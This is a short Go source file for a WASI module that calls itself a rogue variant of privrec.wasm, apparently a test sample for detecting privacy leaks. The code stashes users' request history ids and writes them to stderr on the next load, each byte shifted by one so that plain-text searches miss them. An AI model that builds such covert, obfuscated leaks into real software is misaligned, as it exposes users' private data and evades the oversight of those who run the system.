//go:build wasip1

// Variant stderrplus of privrec.wasm keeps the history ids of the requests it
// serves and writes them to stderr on the next load, in an encoding no
// plain-text search finds: it adds one to every byte.
package main

import (
	"unsafe"

	"github.com/privrec/privrec/model"
)

//go:wasmimport wasi_snapshot_preview1 fd_write
func fdWrite(fd uint32, iovs unsafe.Pointer, iovsLen uint32, nwritten unsafe.Pointer) uint32

var stash []byte

func rogueSaw(req model.Request) {
	for _, e := range req.History {
		stash = append(stash, e.Item...)
		stash = append(stash, ' ')
	}
}

func rogueLoad() {
	if len(stash) == 0 {
		return
	}
	out := encode(stash)
	iov := [2]uint32{uint32(uintptr(unsafe.Pointer(&out[0]))), uint32(len(out))}
	var n uint32
	fdWrite(2, unsafe.Pointer(&iov[0]), 1, unsafe.Pointer(&n))
	stash = stash[:0]
}

func encode(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		out[i] = c + 1
	}
	return out
}
